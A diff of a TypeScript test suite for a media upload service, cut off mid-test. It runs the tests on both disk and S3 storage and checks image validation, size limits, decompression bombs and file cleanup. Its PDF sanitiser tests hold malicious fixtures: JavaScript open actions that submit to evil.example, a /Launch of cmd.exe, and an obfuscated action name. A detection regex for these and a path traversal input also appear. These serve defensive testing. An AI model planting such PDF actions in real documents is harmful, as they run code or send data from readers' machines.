@@ -1,4 +1,4 @@
-import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
+import { existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { Readable } from 'node:stream';
@@ -8,7 +8,9 @@ import sharp from 'sharp';
 import { DEFAULT_MEDIA_LIMITS, type MediaLimits } from '../config.js';
 import { AppError } from '../lib/errors.js';
 import { createMediaService, discardAll, MediaService, originalUrl, sniffImage, variantUrl } from './media.service.js';
-import { LocalDiskStorage } from './media.storage.js';
+import { LocalDiskStorage, type MediaStorage } from './media.storage.js';
+import { S3Storage } from './s3-storage.js';
+import { startS3Server, type TestS3Server } from '../test/s3-server.js';
 import { checkPdf, DEFAULT_PDF_CHECK_LIMITS } from './pdf-check.js';
 import { inspectPdf } from './pdf-inspect.js';
 import { readUpload } from './read-upload.js';
@@ -37,8 +39,8 @@ async function refusal(work: Promise<unknown>): Promise<AppError> {
   throw new Error('expected the upload to be refused');
 }
 
-/** Every file under a folder, relative to it; `all` counts the dotfiles too (pending marks, half-written files), which are never served. */
-function filesUnder(dir: string, { all = false } = {}): string[] {
+/** Every file under a disk folder, relative to it; `all` counts the dotfiles too. */
+function filesOnDisk(dir: string, { all = false } = {}): string[] {
   if (!existsSync(dir)) return [];
   return readdirSync(dir, { recursive: true, withFileTypes: true })
     .filter((entry) => entry.isFile() && (all || !entry.name.startsWith('.')))
@@ -62,128 +64,308 @@ const phonePhoto = () =>
 
 let dataDir: string;
 let uploads: string;
+let storage: MediaStorage;
 let media: MediaService;
-const service = (limits: Partial<MediaLimits> = {}) => createMediaService({ dataDir, mediaLimits: { ...DEFAULT_MEDIA_LIMITS, ...limits } });
+let s3: TestS3Server;
+const service = (limits: Partial<MediaLimits> = {}) => new MediaService(storage, { ...DEFAULT_MEDIA_LIMITS, ...limits });
+
+const STORAGES = [
+  { name: 'the local disk', create: async (): Promise<MediaStorage> => new LocalDiskStorage(uploads) },
+  { name: 'an S3 bucket (s3rver)', create: async (): Promise<MediaStorage> => new S3Storage(await s3.bucket()) },
+];
+
+beforeAll(async () => {
+  s3 = await startS3Server();
+});
+afterAll(() => s3.close());
 
 beforeEach(() => {
   dataDir = mkdtempSync(path.join(tmpdir(), 'dergi-media-'));
   uploads = path.join(dataDir, 'uploads');
-  media = service();
+  storage = new LocalDiskStorage(uploads);
+  media = createMediaService({ dataDir, mediaLimits: DEFAULT_MEDIA_LIMITS });
 });
 afterEach(() => rmSync(dataDir, { recursive: true, force: true }));
 
-const onDisk = (publicPath: string) => path.join(uploads, publicPath.replace(/^\/media\//, ''));
+const keyOf = (publicPath: string) => publicPath.replace(/^\/media\//, '');
+/** The folder key of a stored path (`news/<id>-png/`). */
+const folderOf = (publicPath: string) => keyOf(publicPath).replace(/[^/]+$/, '');
+const stored = async (publicPath: string) => (await storage.read(keyOf(publicPath)))!;
 
-describe('storeImage', () => {
-  it('applies the EXIF orientation, strips metadata and writes WebP variants never wider than the source', async () => {
-    const source = await phonePhoto();
-    const before = await sharp(source).metadata();
-    expect(before).toMatchObject({ width: 1000, height: 700, orientation: 6 });
-    expect(before.exif).toBeDefined();
+/** Every file under a folder key, relative to it; `all` counts the dot-names too (pending marks, half-written files), which are never served. */
+async function filesUnder(folder: string, { all = false } = {}): Promise<string[]> {
+  const keys = (await storage.list(folder || undefined)).map((key) => key.slice(folder.length));
+  return keys.filter((key) => all || !key.split('/').at(-1)!.startsWith('.'));
+}
 
-    const image = await media.storeImage(upload(source), { folder: 'news', field: 'poster' });
+/** The same tests on each storage: what a reader or a record sees must not depend on where the files are. */
+describe.each(STORAGES)('on $name', ({ create }) => {
+  beforeEach(async () => {
+    storage = await create();
+    media = service();
+  });
 
-    expect(image.path).toMatch(/^\/media\/news\/[0-9a-f]{20}-jpg\/large\.webp$/);
-    expect(image.originalPath).toBe(image.path.replace('large.webp', 'original.jpg'));
-    expect(image.variants).toEqual({
-      thumb: variantUrl(image.path, 'thumb'),
-      small: variantUrl(image.path, 'small'),
-      medium: variantUrl(image.path, 'medium'),
-      large: image.path,
+  describe('storeImage', () => {
+    it('applies the EXIF orientation, strips metadata and writes WebP variants never wider than the source', async () => {
+      const source = await phonePhoto();
+      const before = await sharp(source).metadata();
+      expect(before).toMatchObject({ width: 1000, height: 700, orientation: 6 });
+      expect(before.exif).toBeDefined();
+
+      const image = await media.storeImage(upload(source), { folder: 'news', field: 'poster' });
+
+      expect(image.path).toMatch(/^\/media\/news\/[0-9a-f]{20}-jpg\/large\.webp$/);
+      expect(image.originalPath).toBe(image.path.replace('large.webp', 'original.jpg'));
+      expect(image.variants).toEqual({
+        thumb: variantUrl(image.path, 'thumb'),
+        small: variantUrl(image.path, 'small'),
+        medium: variantUrl(image.path, 'medium'),
+        large: image.path,
+      });
+      expect({ width: image.width, height: image.height }).toEqual({ width: 700, height: 1000 });
+
+      expect(await filesUnder(folderOf(image.path))).toEqual(['large.webp', 'medium.webp', 'original.jpg', 'small.webp', 'thumb.webp']);
+
+      const original = await sharp(await stored(image.originalPath)).metadata();
+      expect(original).toMatchObject({ format: 'jpeg', width: 700, height: 1000 });
+      expect(original.exif).toBeUndefined();
+      expect(original.orientation).toBeUndefined();
+      expect((await stored(image.originalPath)).includes(Buffer.from('GPS'))).toBe(false);
+
+      const widths: Record<string, number> = {};
+      for (const [size, url] of Object.entries(image.variants)) {
+        const meta = await sharp(await stored(url)).metadata();
+        expect(meta.format).toBe('webp');
+        expect(meta.exif).toBeUndefined();
+        widths[size] = meta.width!;
+        // Portrait kept: the orientation was applied before resizing.
+        expect(meta.height!).toBeGreaterThan(meta.width!);
+      }
+      expect(widths).toEqual({ thumb: 320, small: 640, medium: 700, large: 700 });
     });
-    expect({ width: image.width, height: image.height }).toEqual({ width: 700, height: 1000 });
 
-    const folder = path.dirname(onDisk(image.path));
-    expect(filesUnder(folder)).toEqual(['large.webp', 'medium.webp', 'original.jpg', 'small.webp', 'thumb.webp']);
+    it('accepts PNG, WebP and GIF by their content, whatever the name, and keeps the original format', async () => {
+      const png = await noise(50, 40).png().toBuffer();
+      const webp = await noise(50, 40).webp().toBuffer();
+      const gif = await noise(50, 40).gif().toBuffer();
+      for (const [bytes, ext] of [
+        [png, 'png'],
+        [webp, 'webp'],
+        [gif, 'gif'],
+      ] as const) {
+        const image = await media.storeImage(upload(bytes, 'named-wrong.txt', 'text/plain'), { folder: 'events', field: 'image' });
+        expect(image.originalPath).toMatch(new RegExp(`^/media/events/[0-9a-f]{20}-${ext}/original\\.${ext}$`));
+        expect(await sharp(await stored(image.originalPath)).metadata()).toMatchObject({ width: 50, height: 40 });
+        expect(image.width).toBe(50);
+      }
+    });
 
-    const original = await sharp(readFileSync(onDisk(image.originalPath))).metadata();
-    expect(original).toMatchObject({ format: 'jpeg', width: 700, height: 1000 });
-    expect(original.exif).toBeUndefined();
-    expect(original.orientation).toBeUndefined();
-    expect(readFileSync(onDisk(image.originalPath)).includes(Buffer.from('GPS'))).toBe(false);
+    it('refuses a text file named x.png with 415 and writes nothing', async () => {
+      const error = await refusal(media.storeImage(upload('just some text', 'x.png', 'image/png'), { folder: 'news', field: 'poster' }));
+      expect(error.status).toBe(415);
+      expect(error.code).toBe('UNSUPPORTED_MEDIA_TYPE');
+      expect(error.fields).toEqual({ poster: 'Media.File.unsupported' });
+      expect(await filesUnder('')).toEqual([]);
+    });
 
-    const widths: Record<string, number> = {};
-    for (const [size, url] of Object.entries(image.variants)) {
-      const meta = await sharp(readFileSync(onDisk(url))).metadata();
-      expect(meta.format).toBe('webp');
-      expect(meta.exif).toBeUndefined();
-      widths[size] = meta.width!;
-      // Portrait kept: the orientation was applied before resizing.
-      expect(meta.height!).toBeGreaterThan(meta.width!);
-    }
-    expect(widths).toEqual({ thumb: 320, small: 640, medium: 700, large: 700 });
+    it('refuses a PNG signature followed by garbage with 415', async () => {
+      const png = await noise(10, 10).png().toBuffer();
+      const garbage = Buffer.concat([png.subarray(0, 8), Buffer.from('garbage '.repeat(20))]);
+      expect(sniffImage(garbage)).toBe('png');
+      const error = await refusal(media.storeImage(upload(garbage, 'x.png'), { folder: 'news', field: 'photos' }));
+      expect(error.status).toBe(415);
+      expect(error.fields).toEqual({ photos: 'Media.File.unsupported' });
+    });
+
+    it('refuses an image whose header reads but whose data does not decode with 415, and writes nothing', async () => {
+      const jpeg = await noise(300, 300).jpeg().toBuffer();
+      const truncated = jpeg.subarray(0, Math.floor(jpeg.length / 2));
+      expect((await sharp(truncated).metadata()).width).toBe(300);
+      const error = await refusal(media.storeImage(upload(truncated), { folder: 'news', field: 'poster' }));
+      expect(error.status).toBe(415);
+      expect(error.fields).toEqual({ poster: 'Media.File.unsupported' });
+      expect(await filesUnder('')).toEqual([]);
+    });
+
+    it('refuses an image over the byte limit with 413', async () => {
+      const jpeg = await noise(200, 200).jpeg().toBuffer();
+      const small = service({ imageBytes: jpeg.length - 1 });
+      const error = await refusal(small.storeImage(upload(jpeg), { folder: 'news', field: 'poster' }));
+      expect(error.status).toBe(413);
+      expect(error.code).toBe('PAYLOAD_TOO_LARGE');
+      expect(error.fields).toEqual({ poster: 'Media.File.tooLarge' });
+      expect((await service({ imageBytes: jpeg.length }).storeImage(upload(jpeg), { folder: 'news', field: 'poster' })).width).toBe(200);
+    });
+
+    it('refuses a decompression bomb (small file, 20000×20000 pixels) with 413 before decoding it', async () => {
+      const bomb = await sharp({ limitInputPixels: false, create: { width: 20000, height: 20000, channels: 3, background: '#ffffff' } })
+        .png({ compressionLevel: 9 })
+        .toBuffer();
+      expect(bomb.length).toBeLessThan(DEFAULT_MEDIA_LIMITS.imageBytes);
+      const started = Date.now();
+      const error = await refusal(media.storeImage(upload(bomb, 'bomb.png'), { folder: 'news', field: 'image' }));
+      expect(error.status).toBe(413);
+      expect(error.fields).toEqual({ image: 'Media.File.tooLarge' });
+      expect(error.message).toMatch(/pixels/);
+      expect(Date.now() - started).toBeLessThan(1000);
+    });
+
+    it('applies the configured pixel limit', async () => {
+      const jpeg = await noise(100, 100).jpeg().toBuffer();
+      expect((await refusal(service({ imagePixels: 9_999 }).storeImage(upload(jpeg), { folder: 'news', field: 'poster' }))).status).toBe(413);
+      expect((await service({ imagePixels: 10_000 }).storeImage(upload(jpeg), { folder: 'news', field: 'poster' })).width).toBe(100);
+    });
   });
 
-  it('accepts PNG, WebP and GIF by their content, whatever the name, and keeps the original format', async () => {
-    const png = await noise(50, 40).png().toBuffer();
-    const webp = await noise(50, 40).webp().toBuffer();
-    const gif = await noise(50, 40).gif().toBuffer();
-    for (const [bytes, ext] of [
-      [png, 'png'],
-      [webp, 'webp'],
-      [gif, 'gif'],
-    ] as const) {
-      const image = await media.storeImage(upload(bytes, 'named-wrong.txt', 'text/plain'), { folder: 'events', field: 'image' });
-      expect(image.originalPath).toMatch(new RegExp(`^/media/events/[0-9a-f]{20}-${ext}/original\\.${ext}$`));
-      expect(await sharp(readFileSync(onDisk(image.originalPath))).metadata()).toMatchObject({ width: 50, height: 40 });
-      expect(image.width).toBe(50);
-    }
+  describe('storePdf', () => {
+    it('stores a PDF that parses, as given', async () => {
+      const doc = await PDFDocument.create();
+      doc.addPage();
+      const bytes = Buffer.from(await doc.save());
+      const pdf = await media.storePdf(upload(bytes, 'issue.bin', 'application/octet-stream'), { folder: 'archive', field: 'preview' });
+      expect(pdf.path).toMatch(/^\/media\/archive\/[0-9a-f]{20}\/preview\.pdf$/);
+      expect((await stored(pdf.path)).equals(bytes)).toBe(true);
+    });
+
+    it('refuses what only starts like a PDF, and what is not one at all, with 415', async () => {
+      for (const bytes of ['%PDF-1.7\n garbage that is not a document', 'hello', await noise(10, 10).png().toBuffer()]) {
+        const error = await refusal(media.storePdf(upload(bytes, 'x.pdf', 'application/pdf'), { folder: 'archive', field: 'preview' }));
+        expect(error.status).toBe(415);
+        expect(error.fields).toEqual({ preview: 'Media.File.unsupported' });
+      }
+      expect(await filesUnder('')).toEqual([]);
+    });
+
+    it('refuses a PDF over its byte limit with 413', async () => {
+      const doc = await PDFDocument.create();
+      doc.addPage();
+      const bytes = Buffer.from(await doc.save());
+      const error = await refusal(service({ pdfBytes: 100 }).storePdf(upload(bytes), { folder: 'archive', field: 'preview' }));
+      expect(error.status).toBe(413);
+      expect(error.fields).toEqual({ preview: 'Media.File.tooLarge' });
+    });
   });
 
-  it('refuses a text file named x.png with 415 and writes nothing', async () => {
-    const error = await refusal(media.storeImage(upload('just some text', 'x.png', 'image/png'), { folder: 'news', field: 'poster' }));
-    expect(error.status).toBe(415);
-    expect(error.code).toBe('UNSUPPORTED_MEDIA_TYPE');
-    expect(error.fields).toEqual({ poster: 'Media.File.unsupported' });
-    expect(filesUnder(uploads)).toEqual([]);
+  describe('active content in PDFs (T3-L6)', () => {
+    const ACTIVE = /\/(OpenAction|AA|JavaScript|JS|Launch|SubmitForm)\b|#|app\.alert|cmd\.exe|evil\.example/;
+    const store = async (pdf: Buffer) => {
+      const pdfFile = await media.storePdf(upload(pdf, 'x.pdf', 'application/pdf'), { folder: 'archive', field: 'preview' });
+      return stored(pdfFile.path);
+    };
+
+    it('removes an /OpenAction script, the document-level scripts (/Names /JavaScript) and a link running a script', async () => {
+      const pdf = rawPdf([
+        '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1); this.submitForm("https://evil.example/")) >> /Names << /JavaScript 5 0 R >> >>',
+        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>',
+        '<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /Java#53cript /JS 6 0 R >> >>',
+        '<< /Names [(init) 7 0 R] >>',
+        '<< /Length 12 >>\nstream\napp.alert(3)\nendstream',
+        '<< /S /JavaScript /JS (app.alert(2)) >>',
+      ]);
+      expect(pdf.toString('latin1')).toMatch(ACTIVE);
+      const stored = await store(pdf);
+      expect(stored.toString('latin1')).not.toMatch(/\/(OpenAction|AA|JavaScript|JS)\b|app\.alert\(1|app\.alert\(2|evil\.example/);
+      expect((await PDFDocument.load(stored)).getPageCount()).toBe(1);
+    });
+
+    it('removes a /Launch open action and the additional actions (/AA) of the catalog and the page', async () => {
+      const pdf = rawPdf([
+        '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> /AA << /WC << /S /URI /URI (https://evil.example/close) >> >> >>',
+        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O << /S /URI /URI (https://evil.example/open) >> >> >>',
+      ]);
+      const stored = (await store(pdf)).toString('latin1');
+      expect(stored).not.toMatch(ACTIVE);
+      expect(stored).toMatch(/\/Type \/Catalog/);
+    });
+
+    it('stores a PDF without active content byte for byte, links to web pages included', async () => {
+      const pdf = rawPdf([
+        '<< /Type /Catalog /Pages 2 0 R >>',
+        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>',
+        '<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /URI /URI (https://dergi.example/) >> >>',
+      ]);
+      expect((await store(pdf)).equals(pdf)).toBe(true);
+    });
   });
 
-  it('refuses a PNG signature followed by garbage with 415', async () => {
-    const png = await noise(10, 10).png().toBuffer();
-    const garbage = Buffer.concat([png.subarray(0, 8), Buffer.from('garbage '.repeat(20))]);
-    expect(sniffImage(garbage)).toBe('png');
-    const error = await refusal(media.storeImage(upload(garbage, 'x.png'), { folder: 'news', field: 'photos' }));
-    expect(error.status).toBe(415);
-    expect(error.fields).toEqual({ photos: 'Media.File.unsupported' });
+  describe('a full disk', () => {
+    // The real full disk (a tmpfs) is in media-faults.test.ts; this double of the filesystem call
+    // covers ENOSPC and EDQUOT where no tmpfs can be mounted.
+    it.each(['ENOSPC', 'EDQUOT'])('answers %s while writing with 507 Media.Storage.full and leaves nothing', async (code) => {
+      let writes = 0;
+      const put = storage.put.bind(storage);
+      storage.put = async (key: string, bytes: Buffer, contentType: string) => {
+        if (++writes === 3) throw Object.assign(new Error(`${code}: no space left on device, write '/srv/data/uploads/x'`), { code });
+        return put(key, bytes, contentType);
+      };
+      const full = new MediaService(storage, DEFAULT_MEDIA_LIMITS);
+      const error = await refusal(full.storeImage(upload(await noise(64, 48).png().toBuffer()), { folder: 'news', field: 'poster' }));
+      expect({ status: error.status, code: error.code, fields: error.fields }).toEqual({
+        status: 507,
+        code: 'INSUFFICIENT_STORAGE',
+        fields: { poster: 'Media.Storage.full' },
+      });
+      expect(error.message).not.toMatch(/srv|ENOSPC|EDQUOT/);
+      expect(await filesUnder('', { all: true })).toEqual([]);
+    });
   });
 
-  it('refuses an image whose header reads but whose data does not decode with 415, and writes nothing', async () => {
-    const jpeg = await noise(300, 300).jpeg().toBuffer();
-    const truncated = jpeg.subarray(0, Math.floor(jpeg.length / 2));
-    expect((await sharp(truncated).metadata()).width).toBe(300);
-    const error = await refusal(media.storeImage(upload(truncated), { folder: 'news', field: 'poster' }));
-    expect(error.status).toBe(415);
-    expect(error.fields).toEqual({ poster: 'Media.File.unsupported' });
-    expect(filesUnder(uploads)).toEqual([]);
-  });
+  describe('removing files', () => {
+    const image = async () => media.storeImage(upload(await noise(64, 48).png().toBuffer()), { folder: 'news', field: 'poster' });
 
-  it('refuses an image over the byte limit with 413', async () => {
-    const jpeg = await noise(200, 200).jpeg().toBuffer();
-    const small = service({ imageBytes: jpeg.length - 1 });
-    const error = await refusal(small.storeImage(upload(jpeg), { folder: 'news', field: 'poster' }));
-    expect(error.status).toBe(413);
-    expect(error.code).toBe('PAYLOAD_TOO_LARGE');
-    expect(error.fields).toEqual({ poster: 'Media.File.tooLarge' });
-    expect((await service({ imageBytes: jpeg.length }).storeImage(upload(jpeg), { folder: 'news', field: 'poster' })).width).toBe(200);
-  });
+    it('discard() and remove() leave no file of the upload', async () => {
+      const first = await image();
+      const second = await image();
+      expect(await filesUnder('')).toHaveLength(10);
+      await first.discard();
+      await first.discard();
+      expect((await filesUnder('')).every((file) => file.startsWith(folderOf(second.path)))).toBe(true);
+      expect(await media.remove(variantUrl(second.path, 'thumb'))).toBe(true);
+      expect(await filesUnder('')).toEqual([]);
+    });
 
-  it('refuses a decompression bomb (small file, 20000×20000 pixels) with 413 before decoding it', async () => {
-    const bomb = await sharp({ limitInputPixels: false, create: { width: 20000, height: 20000, channels: 3, background: '#ffffff' } })
-      .png({ compressionLevel: 9 })
-      .toBuffer();
-    expect(bomb.length).toBeLessThan(DEFAULT_MEDIA_LIMITS.imageBytes);
-    const started = Date.now();
-    const error = await refusal(media.storeImage(upload(bomb, 'bomb.png'), { folder: 'news', field: 'image' }));
-    expect(error.status).toBe(413);
-    expect(error.fields).toEqual({ image: 'Media.File.tooLarge' });
-    expect(error.message).toMatch(/pixels/);
-    expect(Date.now() - started).toBeLessThan(1000);
-  });
+    it('remove() leaves paths that are not ours alone', async () => {
+      const kept = await image();
+      for (const other of [null, undefined, '', 'https://example.com/media/news/x.jpg', '/media/../secret.key', '/elsewhere/news/0123456789abcdef0123-jpg/large.webp']) {
+        expect(await media.remove(other)).toBe(false);
+      }
+      expect(await filesUnder('')).toHaveLength(5);
+      expect(await media.storage.exists(kept.path.replace(/^\/media\//, ''))).toBe(true);
+    });
 
-  it('applies the configured pixel limit', async () => {
-    const jpeg = await noise(100, 100).jpeg().toBuffer();
-    expect((await refusal(service({ imagePixels: 9_999 }).storeImage(upload(jpeg), { folder: 'news', field: 'poster' }))).status).toBe(413);
-    expect((await service({ imagePixels: 10_000 }).storeImage(upload(jpeg), { folder: 'news', field: 'poster' })).width).toBe(100);
+    it('withStoredFiles discards the new files when the database work fails, and removes replaced ones when it succeeds', async () => {
+      const old = await image();
+      const failing = await image();
+      await expect(media.withStoredFiles([failing, undefined], async () => Promise.reject(new Error('db down')), { replaces: [old.path] })).rejects.toThrow(
+        'db down',
+      );
+      expect((await storage.exists(keyOf(failing.path)))).toBe(false);
+      expect((await storage.exists(keyOf(old.path)))).toBe(true);
+
+      const replacement = await image();
+      const marks = async () => (await filesUnder(folderOf(replacement.path), { all: true })).filter((name) => name.startsWith('.'));
+      expect(await marks()).toEqual([expect.stringMatching(/^\.pending-/)]);
+      const result = await media.withStoredFiles([replacement], async () => 'saved', { replaces: [old.path, null] });
+      expect(result).toBe('saved');
+      expect((await storage.exists(keyOf(old.path)))).toBe(false);
+      expect((await storage.exists(keyOf(replacement.path)))).toBe(true);
+      expect(await filesUnder('')).toHaveLength(5);
+      expect(await marks()).toEqual([]);
+    });
+
+    it('storeImages stores all or none', async () => {
+      const good = await noise(30, 30).png().toBuffer();
+      const error = await refusal(media.storeImages([upload(good), upload(good), upload('not an image')], { folder: 'news', field: 'photos' }));
+      expect(error.fields).toEqual({ photos: 'Media.File.unsupported' });
+      expect(await filesUnder('')).toEqual([]);
+      const stored = await media.storeImages([upload(good), upload(good)], { folder: 'news', field: 'photos' });
+      expect(stored).toHaveLength(2);
+      await discardAll(stored);
+      expect(await filesUnder('')).toEqual([]);
+    });
   });
 });
 
@@ -200,35 +382,6 @@ describe('variantUrl and originalUrl', () => {
   it('refuse paths that are not stored images', () => {
     expect(() => variantUrl('/media/archive/0123456789abcdef0123/preview.pdf', 'thumb')).toThrow();
     expect(() => variantUrl('https://example.com/a.jpg', 'thumb')).toThrow();
-  });
-});
-
-describe('storePdf', () => {
-  it('stores a PDF that parses, as given', async () => {
-    const doc = await PDFDocument.create();
-    doc.addPage();
-    const bytes = Buffer.from(await doc.save());
-    const pdf = await media.storePdf(upload(bytes, 'issue.bin', 'application/octet-stream'), { folder: 'archive', field: 'preview' });
-    expect(pdf.path).toMatch(/^\/media\/archive\/[0-9a-f]{20}\/preview\.pdf$/);
-    expect(readFileSync(onDisk(pdf.path)).equals(bytes)).toBe(true);
-  });
-
-  it('refuses what only starts like a PDF, and what is not one at all, with 415', async () => {
-    for (const bytes of ['%PDF-1.7\n garbage that is not a document', 'hello', await noise(10, 10).png().toBuffer()]) {
-      const error = await refusal(media.storePdf(upload(bytes, 'x.pdf', 'application/pdf'), { folder: 'archive', field: 'preview' }));
-      expect(error.status).toBe(415);
-      expect(error.fields).toEqual({ preview: 'Media.File.unsupported' });
-    }
-    expect(filesUnder(uploads)).toEqual([]);
-  });
-
-  it('refuses a PDF over its byte limit with 413', async () => {
-    const doc = await PDFDocument.create();
-    doc.addPage();
-    const bytes = Buffer.from(await doc.save());
-    const error = await refusal(service({ pdfBytes: 100 }).storePdf(upload(bytes), { folder: 'archive', field: 'preview' }));
-    expect(error.status).toBe(413);
-    expect(error.fields).toEqual({ preview: 'Media.File.tooLarge' });
   });
 });
 
@@ -254,7 +407,7 @@ describe('PDF bombs (T3-M3)', () => {
     const error = await refusal(media.storePdf(upload(objectStreamBomb, 'bomb.pdf', 'application/pdf'), { folder: 'archive', field: 'preview' }));
     expect(error.status).toBe(415);
     expect(error.fields).toEqual({ preview: 'Media.Pdf.tooComplex' });
-    expect(filesUnder(uploads, { all: true })).toEqual([]);
+    expect(filesOnDisk(uploads, { all: true })).toEqual([]);
   });
 
   it('stops inflating at the bound: the worker counts at most one zlib chunk past it, not the 200 MB', async () => {
@@ -290,129 +443,6 @@ describe('PDF bombs (T3-M3)', () => {
     const limited = new MediaService(new LocalDiskStorage(uploads), DEFAULT_MEDIA_LIMITS, undefined, { ...DEFAULT_PDF_CHECK_LIMITS, timeoutMs: 1 });
     const error = await refusal(limited.storePdf(upload(objectStreamBomb, 'bomb.pdf', 'application/pdf'), { folder: 'archive', field: 'preview' }));
     expect(error.fields).toEqual({ preview: 'Media.Pdf.tooComplex' });
-  });
-});
-
-describe('active content in PDFs (T3-L6)', () => {
-  const ACTIVE = /\/(OpenAction|AA|JavaScript|JS|Launch|SubmitForm)\b|#|app\.alert|cmd\.exe|evil\.example/;
-  const store = async (pdf: Buffer) => {
-    const stored = await media.storePdf(upload(pdf, 'x.pdf', 'application/pdf'), { folder: 'archive', field: 'preview' });
-    return readFileSync(onDisk(stored.path));
-  };
-
-  it('removes an /OpenAction script, the document-level scripts (/Names /JavaScript) and a link running a script', async () => {
-    const pdf = rawPdf([
-      '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1); this.submitForm("https://evil.example/")) >> /Names << /JavaScript 5 0 R >> >>',
-      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
-      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>',
-      '<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /Java#53cript /JS 6 0 R >> >>',
-      '<< /Names [(init) 7 0 R] >>',
-      '<< /Length 12 >>\nstream\napp.alert(3)\nendstream',
-      '<< /S /JavaScript /JS (app.alert(2)) >>',
-    ]);
-    expect(pdf.toString('latin1')).toMatch(ACTIVE);
-    const stored = await store(pdf);
-    expect(stored.toString('latin1')).not.toMatch(/\/(OpenAction|AA|JavaScript|JS)\b|app\.alert\(1|app\.alert\(2|evil\.example/);
-    expect((await PDFDocument.load(stored)).getPageCount()).toBe(1);
-  });
-
-  it('removes a /Launch open action and the additional actions (/AA) of the catalog and the page', async () => {
-    const pdf = rawPdf([
-      '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> /AA << /WC << /S /URI /URI (https://evil.example/close) >> >> >>',
-      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
-      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O << /S /URI /URI (https://evil.example/open) >> >> >>',
-    ]);
-    const stored = (await store(pdf)).toString('latin1');
-    expect(stored).not.toMatch(ACTIVE);
-    expect(stored).toMatch(/\/Type \/Catalog/);
-  });
-
-  it('stores a PDF without active content byte for byte, links to web pages included', async () => {
-    const pdf = rawPdf([
-      '<< /Type /Catalog /Pages 2 0 R >>',
-      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
-      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>',
-      '<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /URI /URI (https://dergi.example/) >> >>',
-    ]);
-    expect((await store(pdf)).equals(pdf)).toBe(true);
-  });
-});
-
-describe('a full disk', () => {
-  // The real full disk (a tmpfs) is in media-faults.test.ts; this double of the filesystem call
-  // covers ENOSPC and EDQUOT where no tmpfs can be mounted.
-  it.each(['ENOSPC', 'EDQUOT'])('answers %s while writing with 507 Media.Storage.full and leaves nothing', async (code) => {
-    const storage = new LocalDiskStorage(uploads);
-    let writes = 0;
-    const put = storage.put.bind(storage);
-    storage.put = async (key: string, bytes: Buffer) => {
-      if (++writes === 3) throw Object.assign(new Error(`${code}: no space left on device, write '/srv/data/uploads/x'`), { code });
-      return put(key, bytes);
-    };
-    const full = new MediaService(storage, DEFAULT_MEDIA_LIMITS);
-    const error = await refusal(full.storeImage(upload(await noise(64, 48).png().toBuffer()), { folder: 'news', field: 'poster' }));
-    expect({ status: error.status, code: error.code, fields: error.fields }).toEqual({
-      status: 507,
-      code: 'INSUFFICIENT_STORAGE',
-      fields: { poster: 'Media.Storage.full' },
-    });
-    expect(error.message).not.toMatch(/srv|ENOSPC|EDQUOT/);
-    expect(filesUnder(uploads, { all: true })).toEqual([]);
-  });
-});
-
-describe('removing files', () => {
-  const image = async () => media.storeImage(upload(await noise(64, 48).png().toBuffer()), { folder: 'news', field: 'poster' });
-
-  it('discard() and remove() leave no file of the upload', async () => {
-    const first = await image();
-    const second = await image();
-    expect(filesUnder(uploads)).toHaveLength(10);
-    await first.discard();
-    await first.discard();
-    expect(filesUnder(uploads).every((file) => file.startsWith(path.relative(uploads, path.dirname(onDisk(second.path)))))).toBe(true);
-    expect(await media.remove(variantUrl(second.path, 'thumb'))).toBe(true);
-    expect(filesUnder(uploads)).toEqual([]);
-  });
-
-  it('remove() leaves paths that are not ours alone', async () => {
-    const kept = await image();
-    for (const other of [null, undefined, '', 'https://example.com/media/news/x.jpg', '/media/../secret.key', '/elsewhere/news/0123456789abcdef0123-jpg/large.webp']) {
-      expect(await media.remove(other)).toBe(false);
-    }
-    expect(filesUnder(uploads)).toHaveLength(5);
-    expect(await media.storage.exists(kept.path.replace(/^\/media\//, ''))).toBe(true);
-  });
-
-  it('withStoredFiles discards the new files when the database work fails, and removes replaced ones when it succeeds', async () => {
-    const old = await image();
-    const failing = await image();
-    await expect(media.withStoredFiles([failing, undefined], async () => Promise.reject(new Error('db down')), { replaces: [old.path] })).rejects.toThrow(
-      'db down',
-    );
-    expect(existsSync(onDisk(failing.path))).toBe(false);
-    expect(existsSync(onDisk(old.path))).toBe(true);
-
-    const replacement = await image();
-    const marks = () => filesUnder(path.dirname(onDisk(replacement.path)), { all: true }).filter((name) => name.startsWith('.'));
-    expect(marks()).toEqual([expect.stringMatching(/^\.pending-/)]);
-    const result = await media.withStoredFiles([replacement], async () => 'saved', { replaces: [old.path, null] });
-    expect(result).toBe('saved');
-    expect(existsSync(onDisk(old.path))).toBe(false);
-    expect(existsSync(onDisk(replacement.path))).toBe(true);
-    expect(filesUnder(uploads)).toHaveLength(5);
-    expect(marks()).toEqual([]);
-  });
-
-  it('storeImages stores all or none', async () => {
-    const good = await noise(30, 30).png().toBuffer();
-    const error = await refusal(media.storeImages([upload(good), upload(good), upload('not an image')], { folder: 'news', field: 'photos' }));
-    expect(error.fields).toEqual({ photos: 'Media.File.unsupported' });
